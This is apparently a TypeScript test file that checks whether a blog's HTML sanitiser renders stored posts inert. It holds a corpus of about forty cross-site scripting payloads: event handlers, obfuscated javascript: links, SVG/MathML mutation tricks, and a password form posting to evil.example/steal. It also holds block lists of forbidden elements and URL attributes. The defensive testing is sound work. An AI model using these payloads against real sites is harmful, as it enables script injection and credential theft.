/**
 * Stored XSS through the blog (docs/product.md, Sanitised stored HTML): hostile bodies are written
 * with the service role, read back through the site's own article fetcher with the public key, and rendered
 * through SafeHtml into a jsdom document. What reaches the DOM must be inert.
 *
 * The file runs in the node environment with its own JSDOM rather than in Vitest's jsdom environment: there,
 * Vite rewrites `new URL(…, import.meta.url)` for the browser, which breaks the embedded API's path resolution. The own JSDOM also runs scripts, so anything that survived sanitising would actually execute.
 */
import { createRequire } from "node:module";

import { act, createElement } from "react";
import { type Root, createRoot } from "react-dom/client";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";

import { getBlogPost } from "@/features/blog/api/get-blog-post";
import { SafeHtml } from "@/lib/safe-html";

import { useLocalSupabase } from "./support/local-supabase";
import { chooseSiteClient } from "./support/site-supabase";
import { requestAs, signedIn } from "./support/staff";

// The app's fetchers get the client each test chooses with chooseSiteClient().
vi.mock("@/lib/supabase", () => import("./support/site-supabase"));

const backend = useLocalSupabase();

/** Payloads that call window.__xss() if anything in them ever runs. */
const XSS_CORPUS: string[] = [
  "<script>window.__xss()</script>",
  '<script src="https://evil.example/x.js"></script>',
  "<img src=x onerror=window.__xss()>",
  '<img src="x" onerror="window.__xss()" alt="chart">',
  "<svg onload=window.__xss()><circle r=1></circle></svg>",
  "<svg><script>window.__xss()</script></svg>",
  '<svg><a xlink:href="javascript:window.__xss()"><text x=0 y=10>svg link</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss()></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=window.__xss()>"></noscript>',
  '<iframe src="javascript:window.__xss()"></iframe>',
  '<iframe srcdoc="<script>window.__xss()</script>"></iframe>',
  '<object data="javascript:window.__xss()"></object><embed src="javascript:window.__xss()">',
  '<a href="javascript:window.__xss()">plain javascript link</a>',
  '<a href="JaVaScRiPt:window.__xss()">mixed case</a>',
  '<a href="&#106;avascript:window.__xss()">entity encoded</a>',
  '<a href="java&#x09;script:window.__xss()">tab inside</a>',
  '<a href=" \tjavascript:window.__xss()">leading whitespace</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="//evil.example/login">protocol relative</a>',
  '<a href="http://insecure.example">plain http</a>',
  '<form action="https://evil.example/steal"><label>Password <input type="password" name="password"></label>' +
    '<button formaction="javascript:window.__xss()">Sign in</button></form>',
  "<textarea>note</textarea><select><option>one</option></select>",
  "<style>body { display: none }</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p style="position:fixed;inset:0;background:url(javascript:window.__xss())">overlay</p>',
  '<p class="fixed inset-0 z-50" id="main-content">class and id</p>',
  '<div onmouseover="window.__xss()">hover me</div>',
  "<details open ontoggle=window.__xss()><summary>details</summary></details>",
  "<input autofocus onfocus=window.__xss()>",
  '<video><source onerror="window.__xss()"></video><audio src=x onerror=window.__xss()></audio>',
  "<template><script>window.__xss()</script></template>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcygpIj48L3N2Zz4=">',
  '<img src="https://tracker.example/pixel.gif" alt="tracking pixel">',
  '<a href="https://safe.example/report" target="_blank">safe new tab</a>',
  '<a href="https://safe.example/report" target="_blank" rel="opener">opener requested</a>',
  '<a href="mailto:hello@tapsheet.example">mail us</a>',
  "<p>Kept: <strong>bold</strong> and <em>emphasis</em>.</p>",
];

/** Every URL-carrying attribute a browser would follow or load. */
const URL_ATTRIBUTES = [
  "href",
  "src",
  "action",
  "formaction",
  "xlink:href",
  "data",
  "srcdoc",
  "background",
  "poster",
];
const FORBIDDEN_ELEMENTS =
  "script, iframe, frame, object, embed, form, input, button, textarea, select, option, style, link, meta, base, " +
  "template, svg, math, video, audio, source, noscript, details";

/** The slice of jsdom's API used here (the package ships no types, and @types/jsdom is not installed). */
interface Jsdom {
  window: Window & typeof globalThis;
}
type JsdomConstructor = new (html: string, options: { runScripts: "dangerously"; url: string }) => Jsdom;
const { JSDOM } = createRequire(import.meta.url)("jsdom") as { JSDOM: JsdomConstructor };

/** A browser-like page that executes scripts, so a surviving payload would really run and call __xss(). */
const dom = new JSDOM("<!doctype html><html><head></head><body></body></html>", {
  runScripts: "dangerously",
  url: "https://tapsheet.example/blog/test",
});
const xss = vi.fn();
const DOM_GLOBALS = ["window", "document", "navigator", "HTMLElement", "Node"] as const;
const savedGlobals = new Map<string, PropertyDescriptor | undefined>();

beforeAll(() => {
  Object.assign(dom.window, { __xss: xss });
  // SafeHtml and React DOM look for the browser globals; point them at this page for the file's duration.
  for (const name of DOM_GLOBALS) {
    savedGlobals.set(name, Object.getOwnPropertyDescriptor(globalThis, name));
    Object.defineProperty(globalThis, name, { value: dom.window[name], configurable: true, writable: true });
  }
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });
});

afterAll(() => {
  for (const [name, descriptor] of savedGlobals) {
    if (descriptor) Object.defineProperty(globalThis, name, descriptor);
    else Reflect.deleteProperty(globalThis, name);
  }
  Reflect.deleteProperty(globalThis, "IS_REACT_ACT_ENVIRONMENT");
  dom.window.close();
});

let mounted: { root: Root; container: HTMLElement } | undefined;

afterEach(() => {
  if (mounted) {
    const { root, container } = mounted;
    act(() => root.unmount());
    container.remove();
    mounted = undefined;
  }
  xss.mockClear();
});

/** Renders the body the way the article page does: <SafeHtml html={post.content} />. */
function renderBody(html: string): HTMLElement {
  const container = dom.window.document.createElement("div");
  dom.window.document.body.append(container);
  const root = createRoot(container);
  act(() => root.render(createElement(SafeHtml, { html })));
  mounted = { root, container };
  return container;
}

/**
 * Re-parses the rendered markup into the page and makes it do whatever it can: every <script> is re-created so
 * that it executes (as a script added to a page would), and the events inline handlers wait for are fired.
 * Parsed with innerHTML, which never runs scripts, so each runs exactly once, when re-created.
 */
function executeAndPoke(body: HTMLElement) {
  const { document } = dom.window;
  const copy = document.createElement("div");
  document.body.append(copy);
  copy.innerHTML = body.innerHTML;
  for (const script of copy.querySelectorAll("script")) {
    const live = document.createElement("script");
    live.textContent = script.textContent;
    script.replaceWith(live);
  }
  for (const element of copy.querySelectorAll("*")) {
    for (const type of ["error", "load", "mouseover", "focus", "toggle", "click"]) {
      element.dispatchEvent(new dom.window.Event(type));
    }
  }
  copy.remove();
}

async function publishPost(slug: string, content: string, overrides: Record<string, unknown> = {}) {
  const { error } = await backend.service.from("blog_posts").insert({
    slug,
    title: "Hostile content test",
    excerpt: "A post whose body tries every trick.",
    content,
    author: "Red Team",
    published_date: "2025-01-15",
    read_time: "1 min read",
    featured: false,
    tags: ["Security"],
    is_draft: false,
    icon_name: "TrendingUp",
    ...overrides,
  });
  expect(error).toBeNull();
}

/** Asserts that nothing in `body` can run code, load from elsewhere, restyle the page or collect input. */
function expectInert(body: HTMLElement) {
  expect(body.querySelectorAll(FORBIDDEN_ELEMENTS)).toHaveLength(0);
  for (const element of body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name, `${element.tagName} keeps an event handler`).not.toMatch(/^on/i);
      expect(["style", "class", "id"], `${element.tagName} keeps ${name}`).not.toContain(name);
      if (URL_ATTRIBUTES.includes(name)) {
        // Browsers drop ASCII whitespace and control characters from URLs before reading the scheme.
        // eslint-disable-next-line no-control-regex -- that is exactly what is being removed
        const compact = value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
        expect(compact, `${element.tagName} ${name}`).not.toMatch(/^(javascript|vbscript|data|http):/);
        expect(compact, `${element.tagName} ${name}`).not.toMatch(/^\/\//);
      }
    }
  }
  for (const link of body.querySelectorAll('a[target="_blank"]')) {
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  }
  for (const image of body.querySelectorAll("img[src]")) {
    expect(image.getAttribute("src")).toMatch(/^\/(?![/\\])/);
  }
}

/** Stores `content` as a published post and reads it back through the site's article fetcher. */
async function storedAndFetched(content: string, label: string) {
  const slug = `xss-${label}-${crypto.randomUUID().slice(0, 8)}`;
  await publishPost(slug, content);
  const post = await getBlogPost(slug);
  expect(post?.content).toBe(content);
  return post?.content ?? "";
}

describe("blog bodies are rendered inert", () => {
  beforeAll(() => {
    chooseSiteClient(backend.anon);
  });

  it.each(XSS_CORPUS.map((payload, index) => [index, payload] as const))(
    "payload %i: %s",
    async (index, payload) => {
      const body = renderBody(await storedAndFetched(payload, String(index)));
      executeAndPoke(body);
      await new Promise((resolve) => setTimeout(resolve, 10));
      expect(xss).not.toHaveBeenCalled();
      expectInert(body);
    },
  );

  it("would notice a payload that ran (negative control: unsanitised markup)", () => {
    const raw = dom.window.document.createElement("div");
    raw.append(
      dom.window.document
        .createRange()
        .createContextualFragment("<script>window.__xss()</script><img src=x onerror=window.__xss()>"),
    );
    executeAndPoke(raw);
    // Once for the script, once for the image's error handler.
    expect(xss).toHaveBeenCalledTimes(2);
  });

  it("renders the whole corpus in one body inert", async () => {
    const body = renderBody(await storedAndFetched(XSS_CORPUS.join("\n"), "all"));
    executeAndPoke(body);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(xss).not.toHaveBeenCalled();
    expectInert(body);
  });

  it("keeps the editorial parts: safe links (isolated in new tabs), mail links and emphasis", async () => {
    const body = renderBody(
      await storedAndFetched(
        '<p>Read <a href="https://safe.example/report" target="_blank" rel="opener">the report</a> or ' +
          '<a href="mailto:hello@tapsheet.example">mail us</a>. <strong>Bold</strong> and <em>emphasis</em>.</p>',
        "editorial",
      ),
    );
    const report = body.querySelector('a[href="https://safe.example/report"]');
    expect(report?.getAttribute("target")).toBe("_blank");
    expect(report?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(body.querySelector('a[href="mailto:hello@tapsheet.example"]')?.textContent).toBe("mail us");
    expect(body.querySelector("strong")?.textContent).toBe("Bold");
    expect(body.querySelector("em")?.textContent).toBe("emphasis");
  });

  it("renders inert what an editor stores in the desk's JSON and HTML: a javascript: link and a <script>", async () => {
    const editor = await signedIn(backend, "editor", "editor", "aal2");
    const slug = `xss-desk-${crypto.randomUUID().slice(0, 8)}`;
    const hostileLink = { type: "link", attrs: { href: "javascript:window.__xss()" } };
    const stored = await requestAs(backend, editor, "/rest/v1/blog_posts", {
      method: "POST",
      body: {
        slug,
        title: "Written in the desk",
        author: "Editor",
        is_draft: false,
        content_json: {
          type: "doc",
          content: [
            {
              type: "paragraph",
              content: [
                { type: "text", text: "<script>window.__xss()</script>" },
                { type: "text", text: "click", marks: [hostileLink] },
              ],
            },
          ],
        },
        content:
          '<h2>Hello</h2><p><a href="javascript:window.__xss()">click</a></p><script>window.__xss()</script>' +
          "<h1>Too big</h1><h5>Too small</h5>",
      },
    });
    expect(stored.status, await stored.clone().text()).toBe(201);
    const post = await getBlogPost(slug);
    const body = renderBody(post?.content ?? "");
    executeAndPoke(body);
    await new Promise((resolve) => setTimeout(resolve, 10));
    expect(xss).not.toHaveBeenCalled();
    expectInert(body);
    expect(body.querySelector("a")?.hasAttribute("href")).toBe(false);
    expect([...body.querySelectorAll("h1, h2, h3, h4, h5, h6")].map((h) => h.tagName)).toEqual(["H2"]);
  });

  it("never serves a draft, however hostile, to the public key", async () => {
    const slug = `xss-draft-${crypto.randomUUID().slice(0, 8)}`;
    await publishPost(slug, "<script>window.__xss()</script>", { is_draft: true });
    await expect(getBlogPost(slug)).resolves.toBeNull();
  });

  it("reads an unknown slug as 'not found', not as an error", async () => {
    await expect(getBlogPost("no-such-post")).resolves.toBeNull();
  });
});
